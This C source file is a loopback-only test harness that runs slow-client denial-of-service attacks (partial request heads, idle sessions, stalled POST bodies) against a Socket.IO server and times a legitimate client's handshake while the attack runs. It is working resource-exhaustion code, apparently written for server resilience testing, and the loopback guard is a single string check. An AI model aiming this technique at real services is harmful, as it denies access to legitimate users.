/*
 * attack -- clients that are slow on purpose, and a newcomer who times its way in.
 *
 *   attack --port P --mode half-head|silent-session|post-stall --conns N --addresses A
 *          [--seconds T] [--host 127.0.0.1] [--path /socket.io/] [--probe-every MS]
 *
 * Opens N connections from A loopback addresses (127.2.x.y, N/A from each), each of them
 * holding the server the way --mode says, for T seconds, and opens again any the server
 * closes:
 *
 *   half-head       half a request head, then silence
 *   silent-session  a whole polling handshake, then silence on the kept-alive connection
 *   post-stall      a POST head promising 100000 bytes, then nothing
 *
 * Meanwhile, every --probe-every ms, a newcomer from an address of its own (127.3.x.y)
 * makes a polling handshake and a CONNECT to "/", as any Socket.IO client does, and the
 * time until the CONNECT answer arrives is recorded; then it leaves. The result is one
 * line of JSON: how many attackers were held at the end, and the newcomer's times.
 *
 * Loopback only, bounded in time. libc only: cc -O2 -pthread -o attack attack.c
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static struct {
	const char *host, *path, *mode;
	int port, conns, addresses, probe_every_ms;
	double seconds;
} opt = {"127.0.0.1", "/socket.io/", "half-head", 5000, 1500, 300, 500, 30};

static int64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
}

static void die(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* A socket to the server from 127.NET.x.y, address number `n` of that net. */
static int connect_from(int net, uint32_t n, bool blocking)
{
	int fd = socket(AF_INET, SOCK_STREAM | (blocking ? 0 : SOCK_NONBLOCK), 0);
	if (fd < 0)
		die("socket");
	int one = 1;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
	n += 1;
	struct sockaddr_in from = {.sin_family = AF_INET,
	                           .sin_addr.s_addr = htonl(0x7F000000u | (uint32_t)net << 16 |
	                                                    (n & 0xFFFF))};
	if (bind(fd, (struct sockaddr *)&from, sizeof from) < 0)
		die("bind to a loopback source address");
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)opt.port)};
	inet_pton(AF_INET, opt.host, &to.sin_addr);
	if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/* ---- the attackers: one epoll loop ---- */

struct attacker {
	int fd;
	bool connected;
	uint32_t address;
};

static struct attacker *attackers;
static int epfd;
static long reopened, held;

static void attacker_open(struct attacker *a)
{
	a->fd = connect_from(2, a->address, false);
	a->connected = false;
	if (a->fd < 0)
		return;
	struct epoll_event ev = {.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.ptr = a};
	epoll_ctl(epfd, EPOLL_CTL_ADD, a->fd, &ev);
}

/* What the attacker sends once connected, by mode. */
static void attacker_greet(struct attacker *a)
{
	char req[512];
	int n;
	if (strcmp(opt.mode, "half-head") == 0)
		n = snprintf(req, sizeof req, "GET %s?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n",
		             opt.path);
	else if (strcmp(opt.mode, "silent-session") == 0)
		n = snprintf(req, sizeof req, "GET %s?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n\r\n",
		             opt.path);
	else
		n = snprintf(req, sizeof req, "POST %s?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n"
		             "Content-Type: text/plain\r\nContent-Length: 100000\r\n\r\n", opt.path);
	if (send(a->fd, req, (size_t)n, MSG_NOSIGNAL) != n) {
		close(a->fd);
		a->fd = -1;
		return;
	}
	a->connected = true;
	held++;
	struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.ptr = a};
	epoll_ctl(epfd, EPOLL_CTL_MOD, a->fd, &ev);
}

static void attacker_event(struct attacker *a, uint32_t events)
{
	if (!a->connected && (events & EPOLLOUT) && !(events & (EPOLLERR | EPOLLHUP))) {
		attacker_greet(a);
		return;
	}
	char buf[4096];
	ssize_t n = recv(a->fd, buf, sizeof buf, MSG_DONTWAIT); /* answers are dropped */
	if (n > 0 || (n < 0 && errno == EAGAIN))
		return;
	/* the server closed it: it comes back, the way an attacker would */
	if (a->connected)
		held--;
	epoll_ctl(epfd, EPOLL_CTL_DEL, a->fd, NULL);
	close(a->fd);
	a->fd = -1;
	reopened++;
}

/* ---- the newcomer: blocking sockets, its own thread ---- */

struct answer {
	int status;
	char body[8192];
	size_t len;
};

/* Reads one HTTP answer (Content-Length framing). Returns false on a timeout or error. */
static bool read_answer(int fd, struct answer *ans)
{
	char buf[16384];
	size_t got = 0;
	char *end = NULL;
	while (!end) {
		ssize_t n = recv(fd, buf + got, sizeof buf - 1 - got, 0);
		if (n <= 0)
			return false;
		got += (size_t)n;
		buf[got] = 0;
		end = strstr(buf, "\r\n\r\n");
		if (!end && got == sizeof buf - 1)
			return false;
	}
	ans->status = atoi(buf + 9);
	const char *cl = strcasestr(buf, "Content-Length:");
	size_t want = cl ? strtoul(cl + 15, NULL, 10) : 0;
	size_t head = (size_t)(end + 4 - buf);
	size_t have = got - head;
	if (want >= sizeof ans->body)
		return false;
	memcpy(ans->body, end + 4, have < want ? have : want);
	while (have < want) {
		ssize_t n = recv(fd, ans->body + have, want - have, 0);
		if (n <= 0)
			return false;
		have += (size_t)n;
	}
	ans->len = want;
	ans->body[want] = 0;
	return true;
}

static bool request(int fd, const char *method, const char *query, const char *body,
                    struct answer *ans)
{
	char req[1024];
	int n = snprintf(req, sizeof req, "%s %s?%s HTTP/1.1\r\nHost: x\r\n"
	                 "Content-Type: text/plain;charset=UTF-8\r\nContent-Length: %zu\r\n\r\n%s",
	                 method, opt.path, query, strlen(body), body);
	return send(fd, req, (size_t)n, MSG_NOSIGNAL) == n && read_answer(fd, ans);
}

static int newcomer_socket(uint32_t address)
{
	int fd = connect_from(3, address, true);
	if (fd < 0)
		return -1;
	struct timeval tv = {10, 0}; /* past this the newcomer has failed */
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	return fd;
}

/* One newcomer: handshake, CONNECT, its answer. Returns ms, or -1 if it failed. */
static double newcomer(uint32_t address)
{
	int64_t start = now_ns();
	struct answer ans;
	char query[128], sid[64] = "";
	double ms = -1;
	int get = newcomer_socket(address), post = -1;
	if (get < 0 || !request(get, "GET", "EIO=4&transport=polling", "", &ans) ||
	    ans.status != 200)
		goto out;
	const char *s = strstr(ans.body, "\"sid\":\"");
	if (!s || sscanf(s + 7, "%63[^\"]", sid) != 1)
		goto out;
	snprintf(query, sizeof query, "EIO=4&transport=polling&sid=%s", sid);
	post = newcomer_socket(address);
	if (post < 0 || !request(post, "POST", query, "40", &ans) || ans.status != 200)
		goto out;
	for (int i = 0; i < 4; i++) { /* the CONNECT answer, perhaps behind a noop or a ping */
		if (!request(get, "GET", query, "", &ans) || ans.status != 200)
			goto out;
		if (strstr(ans.body, "40{")) {
			ms = (double)(now_ns() - start) / 1e6;
			break;
		}
	}
out:
	if (post >= 0)
		close(post);
	if (sid[0]) { /* it leaves, so that newcomers do not pile up */
		post = newcomer_socket(address);
		if (post >= 0) {
			request(post, "POST", query, "1", &ans);
			close(post);
		}
	}
	if (get >= 0)
		close(get);
	return ms;
}

static struct {
	double *ms;
	int n, failed;
	int64_t end;
} probes;

static void *probe_main(void *arg)
{
	(void)arg;
	uint32_t address = 0;
	while (now_ns() < probes.end) {
		struct timespec pause = {opt.probe_every_ms / 1000, (opt.probe_every_ms % 1000) * 1000000L};
		nanosleep(&pause, NULL);
		if (now_ns() >= probes.end)
			break;
		double ms = newcomer(address++ % 64);
		if (ms < 0)
			probes.failed++;
		else
			probes.ms[probes.n++] = ms;
	}
	return NULL;
}

static int cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;
	return x < y ? -1 : x > y;
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{"host", 1, 0, 'h'}, {"port", 1, 0, 'p'}, {"path", 1, 0, 'P'}, {"mode", 1, 0, 'm'},
		{"conns", 1, 0, 'n'}, {"addresses", 1, 0, 'a'}, {"seconds", 1, 0, 't'},
		{"probe-every", 1, 0, 'e'}, {0, 0, 0, 0}};
	int ch;
	while ((ch = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		switch (ch) {
		case 'h': opt.host = optarg; break;
		case 'p': opt.port = atoi(optarg); break;
		case 'P': opt.path = optarg; break;
		case 'm': opt.mode = optarg; break;
		case 'n': opt.conns = atoi(optarg); break;
		case 'a': opt.addresses = atoi(optarg); break;
		case 't': opt.seconds = atof(optarg); break;
		case 'e': opt.probe_every_ms = atoi(optarg); break;
		default:
			fprintf(stderr, "usage: attack --port P --mode half-head|silent-session|post-stall "
			                "--conns N --addresses A [--seconds T] [--probe-every MS]\n");
			return 2;
		}
	}
	if (strcmp(opt.mode, "half-head") && strcmp(opt.mode, "silent-session") &&
	    strcmp(opt.mode, "post-stall")) {
		fprintf(stderr, "attack: no such mode: %s\n", opt.mode);
		return 2;
	}
	if (opt.conns < 1 || opt.addresses < 1 || opt.addresses > opt.conns || opt.seconds <= 0 ||
	    opt.seconds > 600 || strncmp(opt.host, "127.", 4) != 0) {
		fprintf(stderr, "attack: loopback only, at most 600 s, 1 <= addresses <= conns\n");
		return 2;
	}
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);

	attackers = calloc((size_t)opt.conns, sizeof *attackers);
	probes.ms = calloc((size_t)(opt.seconds * 1000 / opt.probe_every_ms) + 2, sizeof *probes.ms);
	epfd = epoll_create1(0);
	int per_address = (opt.conns + opt.addresses - 1) / opt.addresses;
	for (int i = 0; i < opt.conns; i++) {
		attackers[i].address = (uint32_t)(i / per_address);
		attacker_open(&attackers[i]);
	}
	int64_t start = now_ns(), end = start + (int64_t)(opt.seconds * 1e9);
	probes.end = end;
	pthread_t prober;
	pthread_create(&prober, NULL, probe_main, NULL);
	struct epoll_event ev[512];
	int64_t next_reopen = 0;
	long held_min = -1;
	while (now_ns() < end) {
		int n = epoll_wait(epfd, ev, 512, 10);
		for (int i = 0; i < n; i++)
			attacker_event(ev[i].data.ptr, ev[i].events);
		int64_t now = now_ns();
		if (now >= next_reopen) { /* those the server closed come back, 100 at most a tick */
			int budget = 100;
			for (int i = 0; i < opt.conns && budget > 0; i++)
				if (attackers[i].fd < 0)
					attacker_open(&attackers[i]), budget--;
			next_reopen = now + 10000000;
		}
		if (now - start > 5000000000 && (held_min < 0 || held < held_min))
			held_min = held;
	}
	pthread_join(prober, NULL);
	qsort(probes.ms, (size_t)probes.n, sizeof *probes.ms, cmp_double);
	int slow = 0;
	for (int i = 0; i < probes.n; i++)
		slow += probes.ms[i] > 250;
	printf("{\"mode\":\"%s\",\"conns\":%d,\"addresses\":%d,\"seconds\":%g,"
	       "\"held_at_end\":%ld,\"held_min_after_5s\":%ld,\"reopened\":%ld,"
	       "\"newcomers\":%d,\"newcomers_failed\":%d,\"newcomers_over_250ms\":%d,"
	       "\"newcomer_p50_ms\":%.1f,\"newcomer_max_ms\":%.1f}\n",
	       opt.mode, opt.conns, opt.addresses, opt.seconds, held, held_min, reopened,
	       probes.n + probes.failed, probes.failed, slow,
	       probes.n ? probes.ms[probes.n / 2] : -1, probes.n ? probes.ms[probes.n - 1] : -1);
	return 0;
}
